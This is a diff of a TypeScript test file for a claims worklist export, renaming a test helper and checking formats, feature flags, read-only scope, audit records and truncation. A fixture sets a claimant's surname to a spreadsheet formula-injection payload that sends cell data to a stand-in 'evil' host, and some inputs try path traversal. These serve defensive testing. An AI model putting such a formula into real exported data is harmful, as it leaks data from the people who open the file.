@@ -1,25 +1,25 @@
 import { afterAll, beforeAll, expect, test } from 'vitest'
-import type { Desk, Visitor } from '#testing/desk.ts'
-import { idOf } from '#testing/world.ts'
+import type { TestApi, Visitor } from '#testing/api.ts'
+import { idOf } from '#testing/fixtures.ts'
 import { worklist } from './contract.ts'
 import { addClaimant, addRequests, hoursFrom, openWorklist } from './testing-requests.ts'
 
-let desk: Desk
+let api: TestApi
 let now: Date
 let close: () => Promise<void>
 let adjuster: Visitor
 const evil = '=HYPERLINK("http://evil?"&A1)'
 
 beforeAll(async () => {
-  ;({ desk, now, close } = await openWorklist())
-  const claimId = await addClaimant(desk.db, {
+  ;({ api, now, close } = await openWorklist())
+  const claimId = await addClaimant(api.db, {
     first: 'Łukasz',
     last: evil,
     normalizeForSearch: ['hyperlink', 'lukasz'],
     claimNumber: '00123',
   })
   await addRequests(
-    desk.db,
+    api.db,
     [
       {
         name: 'first',
@@ -35,7 +35,7 @@ beforeAll(async () => {
     ],
     now,
   )
-  adjuster = await desk.signIn('adj.aaa')
+  adjuster = await api.signIn('adj.aaa')
 })
 afterAll(() => close())
 
@@ -162,20 +162,20 @@ test.each(['xlsx', 'csv2', ' ', 'csvpdf', 'csv/../../x'])(
 )
 
 test('a carrier without PDF exports gets none', async () => {
-  await desk.db.query(`insert into feature_flag_override (mc, key, enabled) values ('AAA', 'pdfExportEnabled', false)`)
+  await api.db.query(`insert into feature_flag_override (mc, key, enabled) values ('AAA', 'pdfExportEnabled', false)`)
   const answer = await adjuster.ask(worklist.export, { type: 'pdf' })
   expect([answer.status, answer.body.status.code]).toEqual([403, 'FEATURE_OFF'])
   expect((await adjuster.ask(worklist.export, { type: 'csv' })).status).toBe(200)
-  await desk.db.query(`delete from feature_flag_override`)
+  await api.db.query(`delete from feature_flag_override`)
 })
 
 test('who may only read may take the file, of their scope alone, and it is on record with every claim in it', async () => {
-  await desk.db.query('delete from access_audit')
-  const reader = await desk.signIn('read.only')
+  await api.db.query('delete from access_audit')
+  const reader = await api.signIn('read.only')
   const { rows, text } = await csv(reader)
   expect(rows.filter((row) => /^\d{12}$/.test(row[0]!))).toHaveLength(3)
   expect(text).not.toContain('ZZBBBCANARY')
-  const audit = (await desk.db.query(`select call, claim_ids, object_type, detail from access_audit`)).rows
+  const audit = (await api.db.query(`select call, claim_ids, object_type, detail from access_audit`)).rows
   expect(audit).toHaveLength(1)
   expect(audit[0]).toMatchObject({
     call: 'worklist.export',
@@ -188,19 +188,19 @@ test('who may only read may take the file, of their scope alone, and it is on re
 
 test('a file too long for paper ends with how much is missing', async () => {
   await addRequests(
-    desk.db,
+    api.db,
     Array.from({ length: 2005 }, (_, at) => ({ name: `long ${at}`, owners: ['clin.aaa'], due: hoursFrom(now, at) })),
     now,
   )
-  await desk.db.query('analyze') // as autovacuum would: plans made for six rows are made again
-  const pharmacist = await desk.signIn('clin.aaa')
+  await api.db.query('analyze') // as autovacuum would: plans made for six rows are made again
+  const pharmacist = await api.signIn('clin.aaa')
   const csvFile = await csv(pharmacist, { caseOwners: ['me'] })
   expect(csvFile.status).toBe(200)
   expect(csvFile.rows.filter((row) => /^\d{12}$/.test(row[0]!))).toHaveLength(2005)
   expect(new Set(csvFile.rows.map((row) => row[0]).filter((cell) => /^\d{12}$/.test(cell!))).size).toBe(2005)
   expect(csvFile.text).not.toContain('Only the first')
-  await desk.db.query('delete from access_audit')
+  await api.db.query('delete from access_audit')
   expect((await pharmacist.ask(worklist.export, { type: 'pdf', caseOwners: ['me'] })).status).toBe(200)
-  const { rows } = await desk.db.query(`select detail from access_audit`)
+  const { rows } = await api.db.query(`select detail from access_audit`)
   expect(rows[0].detail).toMatchObject({ rows: 2000, truncated: true, file: 'authSummaryExportToPDF.pdf' })
 }, 60_000)
